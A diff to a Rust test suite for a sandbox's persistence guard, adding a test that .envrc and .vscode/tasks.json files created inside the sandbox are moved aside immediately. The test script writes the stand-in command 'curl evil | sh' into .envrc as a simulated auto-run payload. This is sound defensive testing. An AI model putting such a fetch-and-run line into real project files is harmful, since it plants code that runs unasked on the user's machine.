@@ -1,6 +1,6 @@
 //! Persistence: nothing written in the sandbox may run later outside it.
 //! Protected paths are read-only, cannot be renamed or replaced, and a
-//! protected path the sandbox creates is moved aside after the run.
+//! protected path the sandbox creates is moved aside as soon as it appears.
 
 mod common;
 
@@ -147,5 +147,38 @@ fn missing_hooks_dir_cannot_be_created() {
             out.all()
         );
         assert!(!env.project.join(".git/hooks/pre-commit").exists());
+    }
+}
+
+#[test]
+fn protected_paths_created_during_the_run_are_moved_aside_at_once() {
+    for mode in modes() {
+        let env = Env::new(mode);
+        env.own();
+        // Created inside, then checked from outside while the sandbox still
+        // runs: by then it must be gone, so direnv or an IDE opening the
+        // folder never finds it. The sandbox can see it go, too.
+        let script = "echo 'curl evil | sh' > .envrc && echo created=$?; \
+             mkdir -p .vscode && echo '{}' > .vscode/tasks.json; \
+             for i in $(seq 1 50); do [ -e .envrc ] || [ -e .vscode/tasks.json ] || break; sleep 0.1; done; \
+             [ -e .envrc ] && echo envrc=present || echo envrc=gone; \
+             [ -e .vscode/tasks.json ] && echo tasks=present || echo tasks=gone; \
+             mv .envrc.guard-quarantine-* .envrc 2>/dev/null; \
+             for i in $(seq 1 50); do [ -e .envrc ] || break; sleep 0.1; done; \
+             [ -e .envrc ] && echo renamed_back=present || echo renamed_back=gone";
+        let out = env.sh(script);
+        out.expect_code(0);
+        assert_eq!(out.field("created").as_deref(), Some("0"), "{}", out.all());
+        assert_eq!(out.field("envrc").as_deref(), Some("gone"), "{}", out.all());
+        assert_eq!(out.field("tasks").as_deref(), Some("gone"), "{}", out.all());
+        assert_eq!(
+            out.field("renamed_back").as_deref(),
+            Some("gone"),
+            "{}",
+            out.all()
+        );
+        assert!(!env.project.join(".envrc").exists());
+        assert!(!env.project.join(".vscode/tasks.json").exists());
+        assert!(out.stderr.contains("moved it to"), "{}", out.all());
     }
 }
